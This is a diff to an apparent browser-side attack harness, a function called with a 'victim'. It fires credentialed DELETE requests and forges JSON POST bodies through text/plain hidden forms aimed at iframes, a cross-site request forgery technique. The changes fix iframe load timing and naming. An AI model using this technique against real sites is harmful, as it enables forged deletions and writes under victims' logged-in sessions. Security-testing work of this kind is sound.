@@ -93,6 +93,8 @@ export async function everything({ victim, reads, writes }) {
    */
   const framed = (frame, go) =>
     new Promise((done) => {
+      // An empty frame has loaded as soon as it is there.
+      ground.append(frame);
       frame.addEventListener("load", () => {
         try {
           done(frame.contentDocument?.body.textContent || null);
@@ -100,7 +102,6 @@ export async function everything({ victim, reads, writes }) {
           done(null);
         }
       });
-      ground.append(frame);
       go();
     });
 
@@ -153,7 +154,7 @@ export async function everything({ victim, reads, writes }) {
     await attack(`DELETE of ${path}`, async () => (await fetch(url, { method: "DELETE", credentials: "include" })).text());
     // A form can send JSON as text: the name of its field is what comes before the `=`, its value what comes after.
     await attack(`form to ${path}`, () => {
-      const frame = Object.assign(document.createElement("iframe"), { name: `frame-${attempts.length}` });
+      const frame = Object.assign(document.createElement("iframe"), { name: `frame-${ground.childElementCount}` });
       const form = Object.assign(document.createElement("form"), { method: "POST", action: url, enctype: "text/plain", target: frame.name });
       const [before = "", after = ""] = body.replace(/\}$/, ',"":"=').split("=");
       form.append(Object.assign(document.createElement("input"), { name: before, value: `${after}"}` }));
